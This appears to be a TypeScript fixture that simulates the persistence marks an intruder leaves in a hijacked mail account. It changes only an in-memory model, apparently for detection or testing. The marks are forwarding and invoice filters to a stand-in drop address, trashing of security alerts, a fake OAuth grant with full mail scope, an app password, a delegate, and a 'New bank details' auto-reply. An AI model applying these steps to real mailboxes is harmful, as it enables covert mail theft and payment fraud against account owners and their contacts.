/** What an intruder leaves in a mailbox they have taken over: ways to read on, to stay unseen, to come back. */
import { randomInt } from 'node:crypto';
import { addFilter, type Account } from './accounts.ts';

const DROP = 'archive.backup@freemail.example';
const ADDRESS = '203.0.113.66';

export function leaveMarks(account: Account): void {
  account.forwardingAddresses.set(DROP, 'accepted');
  addFilter(account, { query: 'invoice OR payment OR iban' }, { forward: DROP });
  addFilter(
    account,
    { from: 'no-reply@accounts.google.com', query: 'security alert' },
    { addLabelIds: ['TRASH'], removeLabelIds: ['INBOX', 'UNREAD'] },
  );
  const clientId = `${randomInt(1_000_000, 10_000_000)}-mailbackup.apps.googleusercontent.com`;
  const scopes = ['https://mail.google.com/'];
  account.grants.set(clientId, { clientId, displayText: 'Mail Backup Pro', scopes });
  const codeId = account.appPasswords.size + 1;
  const creationTime = String(Date.now() - 1_800_000);
  account.appPasswords.set(codeId, { codeId, name: 'IMAP client', creationTime });
  account.mail.autoForwarding = { enabled: true, emailAddress: DROP, disposition: 'archive' };
  account.mail.imap = { ...account.mail.imap, enabled: true };
  account.mail.pop = { accessWindow: 'allMail', disposition: 'leaveInInbox' };
  account.mail.vacation = {
    ...account.mail.vacation,
    enableAutoReply: true,
    responseSubject: 'New bank details',
    responseBodyPlainText: 'Please use our new account from now on.',
  };
  account.delegates.add(`temp.assistant@${account.email.slice(account.email.lastIndexOf('@') + 1)}`);
  account.sessions = [...account.sessions, ADDRESS];
  account.signIns.push({ at: Date.now() - 1_800_000, ip: ADDRESS, suspicious: true });
}
